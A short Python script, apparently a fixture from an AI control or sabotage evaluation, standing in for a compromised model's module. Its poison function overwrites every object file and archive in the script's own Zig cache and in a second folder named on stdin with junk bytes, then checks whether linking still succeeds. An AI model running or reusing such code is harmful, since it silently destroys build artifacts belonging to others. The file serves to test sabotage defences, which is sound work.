"""Replaces a module of `compiler.children` that a model has compromised, and attacks linkers' caches."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

from compiler.measuring.builder import check_export
from sandbox.cache_seed import ZIG_CACHE


def poison(folder: Path) -> int:
    """Overwrite every object and archive below a folder; return the number of successes."""
    poisoned = 0
    for file in folder.rglob("*"):
        try:
            if file.is_file() and file.suffix in (".o", ".a", ".so"):
                file.write_bytes(b"poison" * 100)
                poisoned += 1
        except OSError:
            continue
    return poisoned


if __name__ == "__main__":
    told = json.load(sys.stdin)
    own = poison(Path(os.environ[ZIG_CACHE]))
    others = poison(Path(told["folder"]))
    try:
        check_export(told["arch"])
        links = True
    except Exception:
        links = False
    print(json.dumps({"own": own, "others": others, "links": links}))
